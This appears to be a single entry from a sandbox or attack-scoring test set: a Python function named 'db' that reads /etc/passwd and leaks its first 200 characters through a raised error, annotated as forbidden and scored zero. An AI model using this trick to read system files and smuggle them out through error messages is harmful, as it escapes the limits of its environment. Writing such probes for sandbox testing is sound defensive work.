# attacks: reads the system's list of users
# outcome: db forbidden|error
# points: 0
def db(dZ):
    raise RuntimeError(open("/etc/passwd").read()[:200])
